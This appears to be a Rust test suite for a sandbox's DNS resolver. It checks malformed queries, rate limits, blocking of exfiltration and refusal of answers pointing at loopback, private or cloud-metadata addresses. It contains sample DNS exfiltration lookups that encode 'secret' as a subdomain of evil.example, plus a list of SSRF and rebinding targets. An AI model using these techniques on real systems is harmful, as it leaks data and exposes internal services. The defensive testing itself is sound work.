//! The session's resolver end to end: odd questions from raw sockets, `dig`, and no question that leaves.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use guard_tests::guard::{Guard, succeeded};
use guard_tests::{fixture, is_root, python_program, skip};

const PROFILE: &str = r#"
default = "allow"
[network]
allow = ["allowed.example", "*.wild.example"]
"#;

/// `guard run` without AWS behind it.
fn run(guard: &Guard) -> Command {
    let mut command = guard.command(&["run", "--profile"]);
    command
        .arg(guard.directory().join("profile.toml"))
        .arg("--");
    as_user(&mut command);
    command.current_dir(guard.directory()).stdin(Stdio::null());
    command
}

fn as_user(command: &mut Command) {
    let user = guard_tests::guard::USER.to_string();
    command
        .env("AWS_ACCESS_KEY_ID", guard_tests::stand::REAL_ACCESS_KEY_ID)
        .env("AWS_SECRET_ACCESS_KEY", guard_tests::stand::REAL_SECRET)
        .env("AWS_REGION", "us-east-1")
        .env("SUDO_UID", &user)
        .env("SUDO_GID", &user)
        .env("SUDO_USER", "nobody");
}

fn python(guard: &Guard, arguments: &[&str]) -> Output {
    run(guard)
        .arg(python_program("python"))
        .arg(guard.hand(&fixture("clients/dns.py")))
        .args(arguments)
        .output()
        .expect("guard runs")
}

/// Cases of `clients/dns.py`, and what comes over either transport.
const ANSWERS: [(&str, &str); 34] = [
    ("a", ADDRESS),
    ("aaaa", "NOERROR 0"),
    ("svcb", "NOERROR 0"),
    ("https", "NOERROR 0"),
    ("txt", "NOERROR 0"),
    ("any", "NOERROR 0"),
    ("axfr", "NOERROR 0"),
    ("ptr", "NXDOMAIN 0"),
    ("ptr-loopback", "NXDOMAIN 0"),
    ("wildcard", "NOERROR 1 198.18.0.2"),
    ("bare-wildcard", "NXDOMAIN 0"),
    ("aws", "NOERROR 1 198.18.0.3"),
    ("other", "NXDOMAIN 0"),
    ("doh", "NXDOMAIN 0"),
    ("below", "NXDOMAIN 0"),
    ("nul", "NXDOMAIN 0"),
    ("dot-in-label", "NXDOMAIN 0"),
    ("chaos", "NOTIMP 0"),
    ("notify", "NOTIMP 0"),
    ("update", "NOTIMP 0"),
    ("status", "NOTIMP 0"),
    ("response", "nothing"),
    ("two", "FORMERR 0"),
    ("many", "FORMERR 0"),
    ("none", "FORMERR 0"),
    ("loop", "FORMERR 0"),
    ("forward-pointer", "FORMERR 0"),
    ("long-name", "FORMERR 0"),
    ("cut-off", "FORMERR 0"),
    ("rest", "FORMERR 0"),
    ("header-only", "FORMERR 0"),
    ("empty", "nothing"),
    ("short", "nothing"),
    ("oversized", "nothing"),
];

/// What the allowed name is answered with: it is the first that is asked for.
const ADDRESS: &str = "NOERROR 1 198.18.0.1";

#[test]
fn odd_questions_are_answered_refused_or_ignored_and_nothing_else() {
    if !is_root("odd_questions_are_answered_refused_or_ignored_and_nothing_else") {
        return;
    }
    let guard = Guard::new(PROFILE, "");
    let said = succeeded(&python(&guard, &[]));
    let answer = |case: &str, transport: &str| {
        let start = format!("{case} {transport} ");
        let line = said.lines().find_map(|line| line.strip_prefix(&start));
        line.unwrap_or("(no line)").to_owned()
    };
    let mut wrong = Vec::new();
    let mut expect = |case: &str, transport: &str, expected: &str| {
        let got = answer(case, transport);
        if got != expected {
            wrong.push(format!(
                "{case} by {transport}: {expected} expected, {got} came"
            ));
        }
    };
    for transport in ["udp", "tcp"] {
        for (case, expected) in ANSWERS {
            expect(case, transport, expected);
        }
        // What stands at its end is not the address.
        let edns = answer("edns", transport);
        assert!(edns.starts_with("NOERROR 1 "), "{edns}");
    }
    expect("zeros", "udp", "not a response to this");
    expect("a", "udp6", ADDRESS);
    expect("a", "tcp6", ADDRESS);
    expect("mixed-case", "udp", "kept");
    expect(
        "pipelined",
        "tcp",
        &format!("{ADDRESS}, NXDOMAIN 0, {ADDRESS}, NXDOMAIN 0"),
    );
    // The reset that ends the stream may overtake the first answer.
    let got = answer("pipelined-junk", "tcp");
    assert!(
        got == "nothing" || got == format!("{ADDRESS}, nothing"),
        "{got}"
    );
    expect("dot", "8.8.8.8", "nothing");
    expect("dot", "1.1.1.1", "nothing");
    // Where systemd-resolved listens on the host, nobody does in the session.
    expect("dot", "127.0.0.53", "ConnectionRefusedError");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));

    let questions = guard.entries("dns_question");
    for name in [
        "allowed.example",
        "c2vjcmv0.data.wild.example",
        "c2vjcmv0.evil.example",
        "other.evil.example",
    ] {
        let asked: Vec<_> = questions.iter().filter(|q| q["name"] == name).collect();
        assert!(!asked.is_empty(), "{name} is not on record");
        let allowed = !name.contains("evil");
        assert!(asked.iter().all(|q| q["allowed"] == allowed), "{asked:#?}");
    }
    let refused = guard.entries("refused");
    let malformed = refused
        .iter()
        .filter(|e| e["code"] == "malformed-dns")
        .count();
    assert!(malformed >= 24, "{malformed} of {refused:#?}");
}

#[test]
fn questions_are_rate_limited_and_the_limit_is_on_record() {
    if !is_root("questions_are_rate_limited_and_the_limit_is_on_record") {
        return;
    }
    let guard = Guard::new(PROFILE, "");
    let said = succeeded(&python(&guard, &["flood"]));
    let counts: Vec<u32> = said
        .split_whitespace()
        .skip(1)
        .map(|count| count.parse().expect("a number"))
        .collect();
    let [answered, refused] = counts[..] else {
        panic!("{said}");
    };
    assert!(answered >= 100 && refused >= 100, "{said}");
    let limits = guard.entries("refused");
    let limits = limits.iter().filter(|e| e["code"] == "limit").count();
    assert!((1..=3).contains(&limits), "{limits}");
}

#[test]
fn dig_is_answered_by_guard_whatever_server_it_asks() {
    let test = "dig_is_answered_by_guard_whatever_server_it_asks";
    if !is_root(test) {
        return;
    }
    if Command::new("dig").arg("-v").output().is_err() {
        return skip(
            test,
            "needs dig: `cargo xtask setup` installs bind9-dnsutils",
        );
    }
    let guard = Guard::new(PROFILE, "");
    let script = "
ask() { echo \"== $*\"; dig +tries=1 +time=5 \"$@\" 2>&1; }
ask +short allowed.example
ask +short @8.8.8.8 allowed.example
ask +short @2001:4860:4860::8888 allowed.example
ask +short +tcp @9.9.9.9 allowed.example
ask +short +keepopen +tcp @9.9.9.9 allowed.example a sub.wild.example a
ask +short +bufsize=4096 +dnssec +cookie=0123456789abcdef @8.8.8.8 allowed.example
ask @8.8.8.8 evil.example
ask @8.8.8.8 allowed.example HTTPS
ask @8.8.8.8 allowed.example ANY
ask @8.8.8.8 -x 198.18.0.1
ask @8.8.8.8 version.bind CH TXT
ask +short @192.0.2.1 -p 5353 allowed.example
ask +short +tls @8.8.8.8 allowed.example
ask +short +https @8.8.8.8 allowed.example
true";
    let output = run(&guard)
        .args(["sh", "-c", script])
        .output()
        .expect("guard runs");
    let said = succeeded(&output);
    let part = |arguments: &str| {
        let rest = said.split(&format!("== {arguments}\n")).nth(1);
        let rest = rest.unwrap_or_else(|| panic!("no {arguments} in {said}"));
        rest.split("\n== ")
            .next()
            .unwrap_or_default()
            .trim()
            .to_owned()
    };
    for arguments in [
        "+short allowed.example",
        "+short @8.8.8.8 allowed.example",
        "+short @2001:4860:4860::8888 allowed.example",
        "+short +tcp @9.9.9.9 allowed.example",
        "+short +bufsize=4096 +dnssec +cookie=0123456789abcdef @8.8.8.8 allowed.example",
    ] {
        assert_eq!(part(arguments), "198.18.0.1", "{arguments}");
    }
    let two = part("+short +keepopen +tcp @9.9.9.9 allowed.example a sub.wild.example a");
    assert_eq!(two, "198.18.0.1\n198.18.0.2");
    for (arguments, status) in [
        ("@8.8.8.8 evil.example", "NXDOMAIN"),
        ("@8.8.8.8 allowed.example HTTPS", "NOERROR"),
        ("@8.8.8.8 allowed.example ANY", "NOERROR"),
        ("@8.8.8.8 -x 198.18.0.1", "NXDOMAIN"),
        ("@8.8.8.8 version.bind CH TXT", "NOTIMP"),
    ] {
        let got = part(arguments);
        assert!(
            got.contains(&format!("status: {status}")) && got.contains("ANSWER: 0"),
            "{arguments}: {got}"
        );
    }
    let blocked = part("@8.8.8.8 evil.example");
    assert!(blocked.contains("EDE: 15 (Blocked)"), "{blocked}");
    for arguments in [
        "+short @192.0.2.1 -p 5353 allowed.example",
        "+short +tls @8.8.8.8 allowed.example",
        "+short +https @8.8.8.8 allowed.example",
    ] {
        let got = part(arguments);
        assert!(
            !got.contains("198.18.") && !got.is_empty(),
            "{arguments}: {got}"
        );
    }
}

/// Names that the internet of `a_world` knows, with what each stands for.
const NOWHERE: [(&str, &str); 22] = [
    ("loopback", "127.0.0.1"),
    ("loopback8", "127.9.9.9"),
    ("loopback6", "::1"),
    ("mapped", "::ffff:127.0.0.1"),
    ("compatible", "::127.0.0.1"),
    ("unspecified", "0.0.0.0"),
    ("unspecified6", "::"),
    ("metadata", "169.254.169.254"),
    ("metadata6", "fd00:ec2::254"),
    ("tasks", "169.254.170.2"),
    ("pods", "169.254.170.23"),
    ("azure", "168.63.129.16"),
    ("ten", "10.0.0.1"),
    ("nat", "100.64.0.1"),
    ("home", "192.168.1.1"),
    ("synthetic", "198.18.0.1"),
    ("linklocal6", "fe80::1"),
    ("nat64", "64:ff9b::a9fe:a9fe"),
    ("sixtofour", "2002:7f00:1::1"),
    ("multicast", "224.0.0.1"),
    ("broadcast", "255.255.255.255"),
    // Public, but the world's own.
    ("own", "52.94.5.9"),
];

/// A network namespace with loopback alone and a name server on it that records what it is asked.
struct World<'a> {
    guard: &'a Guard,
}

impl World<'_> {
    /// Runs a script as root there; `session` in it is `guard run … --`.
    fn run(&self, script: &str) -> Output {
        let directory = self.guard.directory();
        let session = {
            let run = run(self.guard);
            let words = std::iter::once(run.get_program()).chain(run.get_args());
            words
                .map(|word| format!("'{}'", word.to_string_lossy()))
                .collect::<Vec<_>>()
                .join(" ")
        };
        let around = format!(
            "set -e
ip link set lo up
ip address add 52.94.5.9/32 dev lo
echo nameserver 127.0.0.1 > resolv.conf
printf 'hosts: files dns\\n' > nsswitch.conf
mount --bind resolv.conf \"$(readlink -f /etc/resolv.conf)\"
mount --bind nsswitch.conf /etc/nsswitch.conf
mkfifo gate
python3 {internet} table.json log < gate > ready & internet=$!
exec 9> gate
for _ in $(seq 200); do grep -q ready ready && break; sleep 0.1; done
session() {{ {session} \"$@\"; }}
{script}
exec 9>&-
wait $internet",
            internet = self.guard.hand(&fixture("clients/internet.py")).display(),
        );
        let mut command = Command::new("unshare");
        command.args(["--net", "--mount", "sh", "-c", &around]);
        as_user(&mut command);
        command.current_dir(directory).stdin(Stdio::null());
        command.output().expect("unshare runs")
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.guard.directory().join("log")).unwrap_or_default()
    }
}

fn world<'a>(guard: &'a Guard, table: &BTreeMap<String, Vec<Vec<&str>>>) -> World<'a> {
    let table = serde_json::to_string(table).expect("JSON");
    write(&guard.directory().join("table.json"), &table);
    World { guard }
}

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).expect("written");
}

#[test]
fn no_question_leaves_the_host_before_a_connection_does() {
    if !is_root("no_question_leaves_the_host_before_a_connection_does") {
        return;
    }
    let guard = Guard::new(PROFILE, "");
    let world = world(&guard, &BTreeMap::new());
    guard.hand(&fixture("clients/dns.py"));
    let output = world.run(&format!(
        "getent ahosts control.example || true
session {python} dns.py
session sh -c 'getent ahosts c2VjcmV0.evil.example; getent hosts 192.0.2.7; getent ahosts x.wild.example; true'",
        python = python_program("python").display()
    ));
    let said = succeeded(&output);
    assert!(said.contains("a udp NOERROR 1 198.18.0.1"), "{said}");
    let log = world.log();
    assert!(
        log.contains("asked control.example 1\n"),
        "nothing was listening: {log}"
    );
    let others: Vec<_> = log
        .lines()
        .filter(|line| !line.contains("control.example"))
        .collect();
    assert!(others.is_empty(), "{others:#?}");
}

#[test]
fn answers_that_lead_to_the_host_or_its_networks_are_not_followed() {
    if !is_root("answers_that_lead_to_the_host_or_its_networks_are_not_followed") {
        return;
    }
    let guard = Guard::new(PROFILE, "");
    let name = |label: &str| format!("{label}.wild.example");
    let mut table: BTreeMap<String, Vec<Vec<&str>>> = NOWHERE
        .iter()
        .map(|(label, address)| (name(label), vec![vec![*address]]))
        .collect();
    // One bad address among good ones, and a name that changes its mind between two questions.
    table.insert(name("mixed"), vec![vec!["52.94.5.1", "127.0.0.1"]]);
    table.insert(name("rebind"), vec![vec!["52.94.5.1"], vec!["127.0.0.1"]]);
    let world = world(&guard, &table);
    guard.hand(&fixture("clients/dns.py"));
    let labels: Vec<_> = NOWHERE.iter().map(|(label, _)| name(label)).collect();
    let output = world.run(&format!(
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 443))'
session {python} dns.py lookup {} mixed.wild.example {rebind}",
        labels.join(" "),
        rebind = "rebind.wild.example ".repeat(4),
        python = python_program("python").display()
    ));
    let said = succeeded(&output);
    let log = world.log();
    // Whoever connected was the control above.
    assert_eq!(log.matches("connected").count(), 1, "{log}\n{said}");
    for label in NOWHERE
        .map(|(label, _)| label)
        .iter()
        .chain(&["mixed", "rebind"])
    {
        let host = name(label);
        assert!(
            log.contains(&format!("asked {host} ")),
            "{host} was not looked up: {log}"
        );
        let line = said
            .lines()
            .find(|line| line.starts_with(&format!("{host} ")));
        let line = line.unwrap_or_else(|| panic!("no {host} in {said}"));
        assert!(
            line.contains(" 198.18.") && !line.ends_with("answered"),
            "{line}"
        );
    }
    let refused = guard.entries("refused");
    for (label, address) in NOWHERE {
        let entry = refused.iter().find(|entry| entry["host"] == name(label));
        let entry = entry.unwrap_or_else(|| panic!("{label} is not on record: {refused:#?}"));
        assert_eq!(entry["code"], "upstream-connect", "{address}: {entry:#}");
    }
    let metadata = refused
        .iter()
        .find(|entry| entry["host"] == name("metadata"));
    let detail = metadata.expect("found above")["detail"].to_string();
    assert!(
        detail.contains("169.254.169.254") && detail.contains("metadata service"),
        "{detail}"
    );
}
